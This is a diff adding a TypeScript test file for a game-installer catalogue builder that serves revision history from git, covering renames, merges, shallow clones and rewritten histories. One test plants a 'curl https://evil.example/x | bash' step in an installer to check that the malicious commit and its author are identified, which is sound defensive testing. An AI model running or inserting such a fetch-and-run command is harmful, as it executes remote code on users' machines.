@@ -1,0 +1,268 @@
+import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { digest } from '../../generator/findings/digest.ts';
+import { createRandom } from '../create-random.ts';
+import { readTree } from '../read-tree.ts';
+import { runCommand } from '../run-command.ts';
+import { runs } from '../runs.ts';
+import { temporaryFolder } from '../temporary-folder.ts';
+import {
+  gameText,
+  git,
+  installerText,
+  makeRepository,
+  randomCommits,
+  SITE,
+  type MadeCommit,
+} from './random-history.ts';
+
+interface HistoryAnswer {
+  readonly game: string;
+  readonly revisions: readonly {
+    readonly revision: number;
+    readonly url: string;
+    readonly author: string;
+    readonly sha256: string;
+    readonly began: readonly string[];
+    readonly stopped: readonly string[];
+  }[];
+}
+
+function build(folder: string, ...more: readonly string[]) {
+  return runCommand(['build', '--catalogue', 'catalogue', '--out', 'dist', ...more], { workingFolder: folder });
+}
+
+function read(folder: string, path: string): string {
+  return readFileSync(join(folder, 'dist/api', path), 'utf8');
+}
+
+function historyOf(folder: string, slug: string): HistoryAnswer {
+  return JSON.parse(read(folder, `history/${slug}`)) as HistoryAnswer;
+}
+
+/** A repository with these commits after one with the settings. */
+function repository(...commits: readonly MadeCommit['files'][]): string {
+  const folder = temporaryFolder();
+  makeRepository(folder, [{ files: SITE }, ...commits.map((files) => ({ files }))]);
+  return folder;
+}
+
+const GAME = { 'games/q/quake/game.yaml': gameText(1, 'Quake') };
+const FILE = 'games/q/quake/quake-linux.yaml';
+
+/** The states of a game, number by number. */
+function statesOf(folder: string, game: string): string[] {
+  const path = join(folder, 'dist/api/installers/game', game, 'revisions');
+  return readdirSync(path)
+    .sort((a, b) => Number(a) - Number(b))
+    .map((name) => readFileSync(join(path, name), 'utf8'));
+}
+
+const versionsOf = (folder: string, game: string) =>
+  statesOf(folder, game).map((text) => (JSON.parse(text) as { readonly version: string }).version);
+
+test('each commit of a random history is served as a build of it served it, warm as cold', async () => {
+  const folder = temporaryFolder();
+  const commits = randomCommits(createRandom(7), runs(24));
+  makeRepository(folder, commits);
+  const ids = git(folder, 'rev-list', '--reverse', 'HEAD').trim().split('\n');
+  const meanings = new Map<string, string>();
+  let built = 0;
+  for (const id of ids) {
+    git(folder, 'checkout', '--quiet', id);
+    const { code } = await build(folder, '--cache', 'cache');
+    if (code !== 0) continue;
+    built += 1;
+    const path = join(folder, 'dist/api/history');
+    for (const slug of existsSync(path) ? readdirSync(path) : []) {
+      const { game, revisions } = historyOf(folder, slug);
+      const served = JSON.parse(read(folder, `installers/${slug}`)) as { readonly results: readonly unknown[] };
+      const [object] = served.results;
+      expect(revisions[0]?.sha256).toBe(digest(JSON.stringify(object)));
+      for (const { revision, sha256 } of revisions) {
+        expect(digest(read(folder, `installers/game/${game}/revisions/${String(revision)}`))).toBe(sha256);
+        const name = `${game} ${String(revision)}`;
+        expect(meanings.get(name) ?? sha256).toBe(sha256);
+        meanings.set(name, sha256);
+      }
+    }
+  }
+  expect(built).toBeGreaterThan(ids.length / 3);
+  expect(meanings.size).toBeGreaterThan(10);
+  const warm = readTree(join(folder, 'dist/api'));
+  rmSync(join(folder, 'dist'), { recursive: true });
+  expect((await build(folder)).code).toBe(0);
+  const isOfRelease = (path: string) => path.startsWith('changes/') || path === 'index.json';
+  const withoutRelease = (tree: Readonly<Record<string, string>>) =>
+    Object.fromEntries(Object.entries(tree).filter(([path]) => !isOfRelease(path)));
+  expect(withoutRelease(readTree(join(folder, 'dist/api')))).toEqual(withoutRelease(warm));
+});
+
+test('the change in which an attack came in is named, with who made it', async () => {
+  const folder = temporaryFolder();
+  const attack = installerText(1).replace(
+    '    - extract:',
+    '    - execute:\n        command: curl https://evil.example/x | bash\n    - extract:',
+  );
+  const files = (text: string) => ({ ...GAME, [FILE]: text });
+  makeRepository(folder, [
+    { files: SITE },
+    { files: files(installerText(1)), author: 'Careful' },
+    { files: files(installerText(1, { version: 'Better' })), author: 'Careful' },
+    { files: files(attack.replace('Version 1', 'Better')), author: 'Mallory' },
+    { files: files(installerText(1, { version: 'Best' })), author: 'Careful' },
+  ]);
+  expect(await build(folder)).toMatchObject({ code: 0, error: '' });
+  const { revisions } = historyOf(folder, 'quake-linux');
+  const isAttack = (texts: readonly string[]) => texts.some((text) => text.includes('evil.example'));
+  expect(revisions.map(({ author, began }) => [author, isAttack(began)])).toEqual([
+    ['Careful', false],
+    ['Mallory', true],
+    ['Careful', false],
+    ['Careful', false],
+  ]);
+  expect(revisions.map(({ stopped }) => isAttack(stopped))).toEqual([true, false, false, false]);
+});
+
+describe('what a game was called, and where it lay', () => {
+  const later = installerText(1, { version: 'Later' });
+
+  test('a game that was moved takes its states along, if it is the same game', async () => {
+    const folder = repository(
+      { ...GAME, [FILE]: installerText(1) },
+      {
+        'games/q/quake/game.yaml': undefined,
+        [FILE]: undefined,
+        'games/q/quake-1/game.yaml': gameText(1, 'Quake'),
+        'games/q/quake-1/quake-linux.yaml': installerText(1),
+      },
+      { 'games/q/quake-1/quake-linux.yaml': later },
+    );
+    await build(folder);
+    expect(versionsOf(folder, 'quake-1')).toEqual(['Version 1', 'Version 1', 'Later']);
+  });
+
+  test('another game in its place begins anew', async () => {
+    const folder = repository(
+      { ...GAME, [FILE]: installerText(1) },
+      {
+        'games/q/quake/game.yaml': undefined,
+        [FILE]: undefined,
+        'games/q/quake-1/game.yaml': gameText(2, 'Quake'),
+        'games/q/quake-1/quake-linux.yaml': installerText(1),
+      },
+    );
+    await build(folder);
+    expect(versionsOf(folder, 'quake-1')).toEqual(['Version 1']);
+  });
+
+  test('an installer that was renamed has one history', async () => {
+    const renamed = 'games/q/quake/quake-native.yaml';
+    const folder = repository(
+      { ...GAME, [FILE]: installerText(1) },
+      { [FILE]: undefined, [renamed]: installerText(1) },
+    );
+    await build(folder);
+    expect(historyOf(folder, 'quake-native').revisions.map(({ revision }) => revision)).toEqual([2, 1]);
+  });
+
+  test('a game that was taken away and came back counts on', async () => {
+    const gone = { 'games/q/quake/game.yaml': undefined, [FILE]: undefined };
+    const folder = repository({ ...GAME, [FILE]: installerText(1) }, gone, { ...GAME, [FILE]: later });
+    await build(folder);
+    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Later']);
+  });
+});
+
+test('a state that cannot be served has no number', async () => {
+  const folder = repository(
+    { ...GAME, [FILE]: installerText(1) },
+    { [FILE]: 'version: [\n' },
+    { [FILE]: installerText(1, { version: 'Better' }) },
+  );
+  await build(folder);
+  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Better']);
+});
+
+test('a merge is one change, of whom it came from', async () => {
+  const folder = repository({ ...GAME, [FILE]: installerText(1) });
+  git(folder, 'checkout', '--quiet', '-b', 'branch');
+  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Draft' }));
+  git(folder, 'commit', '--quiet', '-a', '-m', 'one');
+  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Final' }));
+  git(folder, 'commit', '--quiet', '-a', '-m', 'two', '--author', 'Contributor <c@example.org>');
+  git(folder, 'checkout', '--quiet', 'main');
+  git(folder, 'merge', '--quiet', '--no-ff', '-m', 'merge', 'branch');
+  await build(folder);
+  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Final']);
+  expect(historyOf(folder, 'quake-linux').revisions[0]?.author).toBe('Contributor');
+});
+
+test('only the last states of each installer are kept, under their numbers', async () => {
+  const states = [1, 2, 3, 4].map((n) => ({ ...GAME, [FILE]: installerText(1, { version: `V${String(n)}` }) }));
+  const folder = repository(...states, { 'site.yaml': SITE['site.yaml'].replace('1000', '2') });
+  await build(folder);
+  expect(historyOf(folder, 'quake-linux').revisions.map(({ revision }) => revision)).toEqual([4, 3]);
+  expect(versionsOf(folder, 'quake')).toEqual(['V3', 'V4']);
+});
+
+test('what was changed and not committed has no number', async () => {
+  const folder = repository({ ...GAME, [FILE]: installerText(1) });
+  writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Mine' }));
+  await build(folder);
+  expect(versionsOf(folder, 'quake')).toEqual(['Version 1']);
+  git(folder, 'commit', '--quiet', '-a', '-m', 'mine');
+  await build(folder);
+  expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Mine']);
+});
+
+describe('what git does not have', () => {
+  const states = [{ ...GAME, [FILE]: installerText(1) }, { [FILE]: installerText(1, { version: 'Better' }) }];
+
+  test('a shallow clone is refused, with what to do', async () => {
+    const folder = repository(...states);
+    git(folder, 'clone', '--quiet', '--depth', '1', `file://${folder}`, 'shallow');
+    const { code, error } = await build(join(folder, 'shallow'));
+    expect(code).toBe(2);
+    expect(error).toContain('fetch-depth: 0');
+  });
+
+  test('without a repository nothing is served of the past, and that is said', async () => {
+    const folder = repository(...states);
+    const plain = temporaryFolder();
+    cpSync(join(folder, 'catalogue'), join(plain, 'catalogue'), { recursive: true });
+    const { code, error } = await build(plain);
+    expect([code, error.split('\n').length]).toEqual([0, 2]);
+    expect(error).toContain('no git repository');
+    expect(readdirSync(join(plain, 'dist/api'))).not.toContain('history');
+  });
+
+  test('a history that was rewritten is refused until that is wanted', async () => {
+    const folder = repository(...states);
+    await build(folder, '--cache', 'cache');
+    git(folder, 'reset', '--quiet', '--hard', 'HEAD~1');
+    writeFileSync(join(folder, 'catalogue', FILE), installerText(1, { version: 'Other' }));
+    git(folder, 'commit', '--quiet', '-a', '-m', 'other');
+    const { code, error } = await build(folder, '--cache', 'cache');
+    expect([code, error]).toEqual([2, expect.stringContaining('--renumber')]);
+    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Better']);
+    expect((await build(folder, '--cache', 'cache', '--renumber')).code).toBe(0);
+    expect(versionsOf(folder, 'quake')).toEqual(['Version 1', 'Other']);
+  });
+});
+
+test('history that is switched off and on again is served as before', async () => {
+  const folder = repository({ ...GAME, [FILE]: installerText(1) }, { [FILE]: installerText(1, { version: 'Better' }) });
+  await build(folder, '--cache', 'cache');
+  const before = statesOf(folder, 'quake');
+  const hidden = join(folder, '.git');
+  mkdirSync(join(folder, 'elsewhere'));
+  cpSync(hidden, join(folder, 'elsewhere/git'), { recursive: true });
+  rmSync(hidden, { recursive: true });
+  await build(folder, '--cache', 'cache');
+  expect(readdirSync(join(folder, 'dist/api'))).not.toContain('history');
+  cpSync(join(folder, 'elsewhere/git'), hidden, { recursive: true });
+  await build(folder, '--cache', 'cache');
+  expect(statesOf(folder, 'quake')).toEqual(before);
+});
